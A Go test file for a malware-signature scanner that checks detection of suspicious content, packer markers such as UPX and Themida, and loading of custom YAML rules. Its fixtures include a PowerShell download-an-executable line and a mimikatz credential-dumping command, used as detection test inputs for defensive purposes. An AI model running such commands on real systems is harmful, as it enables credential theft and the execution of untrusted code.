package signatures

import (
	"os"
	"path/filepath"
	"testing"
)

func compiledDefaults(t *testing.T) *Set {
	t.Helper()
	set := Defaults()
	if err := set.Compile(); err != nil {
		t.Fatalf("Compile() error = %v", err)
	}
	return set
}

func TestScanSuspicious(t *testing.T) {
	set := compiledDefaults(t)

	tests := []struct {
		name    string
		content string
		want    []string
	}{
		{
			name:    "downloader one-liner",
			content: "powershell Invoke-WebRequest http://x/a.exe",
			want:    []string{"Script interpreter", "Download capability"},
		},
		{
			name:    "credential tool",
			content: "run mimikatz sekurlsa::logonpasswords",
			want:    []string{"Credential theft tool"},
		},
		{
			name:    "hex payload",
			content: `$p = "\x41\x42\x43\x44\x45\x46\x47\x48\x49\x4a\x4b"`,
			want:    []string{"Hex encoded payload"},
		},
		{
			name:    "clean content",
			content: "a perfectly ordinary note about groceries",
			want:    nil,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := set.ScanSuspicious(tt.content)
			if len(got) != len(tt.want) {
				t.Fatalf("ScanSuspicious() = %v, want %v", got, tt.want)
			}
			for i := range got {
				if got[i] != tt.want[i] {
					t.Errorf("match[%d] = %q, want %q", i, got[i], tt.want[i])
				}
			}
		})
	}
}

func TestFindPacker(t *testing.T) {
	set := compiledDefaults(t)

	tests := []struct {
		name       string
		data       []byte
		wantName   string
		wantFound  bool
		confidence float64
	}{
		{
			name:       "upx marker",
			data:       append([]byte("MZ....."), []byte("UPX!")...),
			wantName:   "UPX",
			wantFound:  true,
			confidence: 0.9,
		},
		{
			name:       "themida marker",
			data:       []byte("....Themida...."),
			wantName:   "Themida",
			wantFound:  true,
			confidence: 0.7,
		},
		{
			name:      "no marker",
			data:      []byte("plain old data"),
			wantFound: false,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			sig, found := set.FindPacker(tt.data)
			if found != tt.wantFound {
				t.Fatalf("found = %v, want %v", found, tt.wantFound)
			}
			if !found {
				return
			}
			if sig.Name != tt.wantName {
				t.Errorf("Name = %q, want %q", sig.Name, tt.wantName)
			}
			if sig.Confidence != tt.confidence {
				t.Errorf("Confidence = %v, want %v", sig.Confidence, tt.confidence)
			}
		})
	}
}

func TestCompile_RejectsInvalidPattern(t *testing.T) {
	set := &Set{
		Suspicious: []SuspiciousPattern{
			{ID: "broken", Pattern: `[unclosed`},
		},
	}
	if err := set.Compile(); err == nil {
		t.Error("Compile() should reject an invalid pattern")
	}
}

func TestLoader_MissingDirectory(t *testing.T) {
	set, err := NewLoader("/nonexistent/signatures").Load()
	if err != nil {
		t.Fatalf("Load() error = %v, missing directory should not fail", err)
	}
	if len(set.Suspicious) == 0 || len(set.Packers) == 0 {
		t.Error("defaults should survive a missing signatures directory")
	}
}

func TestLoader_MergesYAMLFiles(t *testing.T) {
	dir := t.TempDir()
	custom := `suspicious_patterns:
  - id: custom-marker
    pattern: (?i)totally-custom-indicator
    description: Custom indicator
packers:
  - name: CustomPacker
    markers: ["CPK0"]
    confidence: 0.8
`
	if err := os.WriteFile(filepath.Join(dir, "custom.yaml"), []byte(custom), 0644); err != nil {
		t.Fatalf("failed to write fixture: %v", err)
	}

	set, err := NewLoader(dir).Load()
	if err != nil {
		t.Fatalf("Load() error = %v", err)
	}

	defaults := Defaults()
	if len(set.Suspicious) != len(defaults.Suspicious)+1 {
		t.Errorf("suspicious count = %d, want %d", len(set.Suspicious), len(defaults.Suspicious)+1)
	}

	got := set.ScanSuspicious("contains a Totally-Custom-Indicator marker")
	if len(got) != 1 || got[0] != "Custom indicator" {
		t.Errorf("ScanSuspicious() = %v, want custom indicator match", got)
	}

	if _, found := set.FindPacker([]byte("....CPK0....")); !found {
		t.Error("custom packer marker should be found")
	}
}
